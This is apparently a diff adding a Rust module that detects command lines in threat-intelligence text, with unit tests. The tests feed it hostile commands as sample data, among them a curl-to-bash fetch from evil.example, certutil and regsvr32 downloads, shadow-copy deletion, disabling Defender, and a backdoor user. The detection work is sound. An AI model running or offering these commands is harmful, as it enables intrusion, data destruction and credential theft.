@@ -1,0 +1,304 @@
+//! Command lines. Enter at [`scan`].
+//!
+//! A command fills a line, a table cell, a quotation or what follows a colon; it starts with an
+//! interpreter or a tool that intruders live off, and has arguments. Prose that merely names a tool
+//! is none. The value is what was written.
+
+mod shape;
+mod tools;
+
+use std::ops::Range;
+
+use crate::extract::candidate::{Candidate, Text};
+use crate::extract::context::label;
+use crate::indicator::Kind;
+
+/// Longest command line followed, in bytes: what `cmd.exe` takes.
+const LONGEST: usize = 8_191;
+/// Longest stretch that may stand before a command as its prompt, in bytes.
+const PROMPT: usize = 80;
+
+/// What stands before a command.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Opening {
+    /// The start of a line or a tab.
+    Cell,
+    /// A quotation mark or backtick that this one closes.
+    Quote(char),
+    /// A colon and a space.
+    Colon,
+}
+
+/// Finds command lines.
+pub(crate) fn scan(text: &Text<'_>, found: &mut Vec<Candidate>) {
+    let whole = text.str();
+    let bytes = whole.as_bytes();
+    let mut ends = Ends {
+        text: whole,
+        cell: None,
+    };
+    let mut done = 0;
+    let mut look = |at: usize, opening: Opening| {
+        if at < done {
+            return;
+        }
+        let cell = ends.cell(at);
+        if let Some(one) = read(text, at..cell, opening) {
+            done = one.span.end;
+            found.push(one);
+        }
+    };
+    look(0, Opening::Cell);
+    for (at, byte) in bytes.iter().enumerate() {
+        match byte {
+            b'\n' | b'\t' => look(at + 1, Opening::Cell),
+            b'`' | b'"' => look(at + 1, Opening::Quote(char::from(*byte))),
+            b':' if bytes.get(at + 1) == Some(&b' ') => look(at + 2, Opening::Colon),
+            // “ is E2 80 9C.
+            0x9C if at >= 2 && bytes[at - 2..at] == [0xE2, 0x80] => {
+                look(at + 1, Opening::Quote('”'))
+            }
+            _ => {}
+        }
+    }
+}
+
+/// Where the cell of a rising offset ends; every byte is looked at once.
+struct Ends<'a> {
+    text: &'a str,
+    cell: Option<usize>,
+}
+
+impl Ends<'_> {
+    fn cell(&mut self, at: usize) -> usize {
+        match self.cell {
+            Some(end) if at <= end => end,
+            _ => {
+                let rest = &self.text.as_bytes()[at..];
+                let end = at + memchr::memchr2(b'\n', b'\t', rest).unwrap_or(rest.len());
+                self.cell = Some(end);
+                end
+            }
+        }
+    }
+}
+
+/// The command that starts at the start of `cell`, which reaches to the end of its line or cell.
+fn read(text: &Text<'_>, cell: Range<usize>, opening: Opening) -> Option<Candidate> {
+    let whole = text.str();
+    let limit = whole.floor_char_boundary(cell.end.min(cell.start.saturating_add(LONGEST)));
+    let cell = cell.start..limit;
+    let start = cell.start + skip_prompt(&whole[cell.clone()], opening);
+    let head = shape::head(&whole[start..limit])?;
+    let said = opening == Opening::Cell && is_labelled(text, start);
+    let rough = &whole[start..limit];
+    let line = match opening {
+        Opening::Quote(mark) => &rough[..closing(rough, mark)?],
+        Opening::Cell | Opening::Colon => rough,
+    };
+    let line = line.trim_end();
+    let line = if matches!(opening, Opening::Quote(_)) || said {
+        line
+    } else {
+        without_full_stop(line)
+    };
+    if line.len() <= head.end {
+        return None;
+    }
+    let arguments = line[head.end..].trim_start_matches(['"', '\'']).trim();
+    let confidence = if said {
+        90
+    } else if shape::is_command(&head, arguments) {
+        85
+    } else {
+        return None;
+    };
+    if arguments.is_empty() {
+        return None;
+    }
+    let span = start..start + line.len();
+    Some(Candidate {
+        kind: Kind::Command,
+        value: line.to_owned(),
+        span,
+        defanged: false,
+        confidence,
+    })
+}
+
+/// Whether the table says that this cell holds a command.
+fn is_labelled(text: &Text<'_>, at: usize) -> bool {
+    label::of(text, at).is_some_and(|label| {
+        let label = label.to_ascii_lowercase();
+        label.contains("command") && !label.contains("and control")
+            || label.contains("cmdline")
+            || label == "cmd"
+    })
+}
+
+/// Length of what stands before a command on a line of a session or list: `$ `, `PS C:\> `, `- `.
+fn skip_prompt(cell: &str, opening: Opening) -> usize {
+    let blank = cell.len() - cell.trim_start().len();
+    let mut rest = &cell[blank..];
+    if opening == Opening::Cell {
+        rest = rest
+            .trim_start_matches(['•', '*', '-', '–', '+', '·'])
+            .trim_start();
+        let near = &rest[..rest.floor_char_boundary(PROMPT)];
+        let is_prompt = |head: &str| {
+            head.starts_with("PS ")
+                || head.contains(":\\") && !head.contains(' ')
+                || head.contains('@')
+                || head.trim().is_empty()
+        };
+        let prompt = near
+            .find(['>', '$', '#'])
+            .filter(|at| is_prompt(&near[..*at]) && near[*at..].len() > 1);
+        if let Some(at) = prompt {
+            let after = &rest[at + 1..];
+            let session = after.starts_with(' ') || rest[..at].contains(":\\");
+            rest = if session { after.trim_start() } else { rest };
+        }
+    }
+    cell.len() - rest.len()
+}
+
+/// Where the quotation ends that `mark` closes; an escaped mark (`\"`) does not.
+fn closing(rest: &str, mark: char) -> Option<usize> {
+    rest.match_indices(mark)
+        .map(|(at, _)| at)
+        .find(|at| !rest[..*at].ends_with('\\'))
+}
+
+/// `line` without the full stop of the sentence that it closes.
+fn without_full_stop(line: &str) -> &str {
+    match line.strip_suffix(['.', ';', ',']) {
+        Some(kept)
+            if kept.ends_with(|c: char| {
+                c.is_alphanumeric() || matches!(c, '"' | '\'' | ')' | '”')
+            }) =>
+        {
+            kept
+        }
+        _ => line,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::document::Document;
+
+    fn commands(text: &str) -> Vec<String> {
+        let document = Document {
+            text: text.into(),
+            ..Document::default()
+        };
+        let mut found = Vec::new();
+        scan(&Text::new(&document), &mut found);
+        found.into_iter().map(|one| one.value).collect()
+    }
+
+    #[test]
+    fn a_line_or_a_quotation_may_be_a_command() {
+        for command in [
+            r"cmd.exe /c whoami /all > C:\temp\o.txt",
+            r"rundll32.exe C:\ProgramData\evil.dll,Start",
+            "regsvr32 /s /u /i:http://evil.example/x.sct scrobj.dll",
+            r"schtasks /create /tn Upd /tr C:\a.exe /sc minute /mo 10",
+            "certutil -urlcache -split -f http://evil.example/a.exe a.exe",
+            "vssadmin delete shadows /all /quiet",
+            "curl -s http://evil.example/x.sh | bash",
+            r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d y /f",
+            "wmic.exe Shadowcopy Delete",
+            "bcdedit /set {default} recoveryenabled No",
+            "powershell -nop -w hidden -enc AAAA",
+            r"C:\Windows\System32\cmd.exe /c dir",
+            "chmod +x /tmp/evil",
+            "python3 evil.py --host 192.0.2.1",
+            "net user evil P@ss /add",
+            "ping -n 5 192.0.2.1",
+            r#"C:\Windows\System32\rundll32.exe" SHELL32 ShellExec_RunDLL evil"#,
+            "Set-MpPreference -DisableRealtimeMonitoring $true",
+        ] {
+            assert_eq!(commands(command), [command]);
+            assert_eq!(commands(&format!("It runs `{command}` next.")), [command]);
+            assert_eq!(
+                commands(&format!("Then this command runs: {command}.")),
+                [command]
+            );
+            assert_eq!(commands(&format!("  $ {command}\n")), [command]);
+        }
+        assert_eq!(commands("PS C:\\Users\\x> whoami /all"), ["whoami /all"]);
+        assert_eq!(commands("C:\\>whoami /all"), ["whoami /all"]);
+    }
+
+    #[test]
+    fn prose_that_names_a_tool_is_no_command() {
+        for text in [
+            "The actor uses powershell to download a file.",
+            "PowerShell is used to download the payload from C:\\Temp.",
+            "PowerShell and cmd.exe were seen.",
+            "Python is a language.",
+            "curl, wget and certutil.exe are common.",
+            "rundll32.exe",
+            "Find out more at https://evil.example/",
+            "net income rose",
+            "Start the day with /r/netsec",
+            "wscript.exe and mshta.exe run C:\\a.js afterwards.",
+            "bash",
+        ] {
+            assert_eq!(commands(text), [""; 0], "{text}");
+        }
+    }
+
+    #[test]
+    fn a_cell_that_the_table_calls_a_command_is_one() {
+        assert_eq!(
+            commands("command_line\tevil.exe -u a -p b\tseen once"),
+            ["evil.exe -u a -p b"]
+        );
+        assert_eq!(
+            commands("command\tmakecab  lsass.dmp lsass.dmp.cab \tx"),
+            ["makecab  lsass.dmp lsass.dmp.cab"]
+        );
+    }
+
+    #[test]
+    fn hostile_texts_cost_linear_time_and_nothing_panics() {
+        let patterns = [
+            "a",
+            "\"cmd ",
+            "`cmd /c ",
+            "cmd /c \"",
+            ": cmd ",
+            "\t",
+            "\ncmd",
+            "“cmd /c é ",
+            "$ ",
+            "PS C:\\> ",
+            "> ",
+            "cmd\t/c ",
+            ": ",
+            "\"",
+            "`",
+            "“",
+            "漢",
+            "cmd /c a\n",
+        ];
+        for pattern in patterns {
+            let text = pattern.repeat(200_000 / pattern.len());
+            let start = std::time::Instant::now();
+            let document = Document {
+                text,
+                ..Document::default()
+            };
+            scan(&Text::new(&document), &mut Vec::new());
+            assert!(
+                start.elapsed().as_secs() < 10,
+                "{pattern:?} took {:?}",
+                start.elapsed()
+            );
+        }
+    }
+}
